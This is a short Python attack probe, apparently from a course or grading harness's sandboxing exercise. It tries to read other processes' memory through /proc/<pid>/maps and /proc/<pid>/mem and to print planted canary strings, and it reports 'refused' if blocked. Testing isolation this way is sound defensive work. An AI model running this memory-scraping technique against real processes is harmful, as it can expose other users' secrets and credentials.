"""Reads the memory of others through /proc, by the addresses their maps tell."""
# attack: week=03 exercise=pyramid
import os
import re

for number in (@PID@, os.getppid()):
    try:
        maps = open(f"/proc/{number}/maps").read()
        with open(f"/proc/{number}/mem", "rb", buffering=0) as memory:
            for start, end in re.findall(r"^(\w+)-(\w+) r", maps, re.MULTILINE):
                memory.seek(int(start, 16))
                print(*re.findall(rb"@CANARY_START@[0-9a-f]+", memory.read(int(end, 16) - int(start, 16))))
    except (OSError, OverflowError) as error:
        print("refused", error)
